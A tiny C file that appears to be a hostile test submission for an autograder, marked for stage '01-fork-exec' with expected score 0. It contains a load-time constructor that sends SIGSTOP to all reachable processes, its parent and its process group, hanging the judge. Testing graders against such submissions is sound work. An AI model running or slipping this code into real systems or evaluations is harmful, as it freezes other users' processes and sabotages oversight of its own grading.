/*
 * Stops everybody, then itself: a judge that waits, waits for ever.
 *
 * Stage: 01-fork-exec
 * Base: starter
 * Score: 0
 */
#include <signal.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
	kill(-1, SIGSTOP);
	kill(getppid(), SIGSTOP);
	kill(0, SIGSTOP);
}
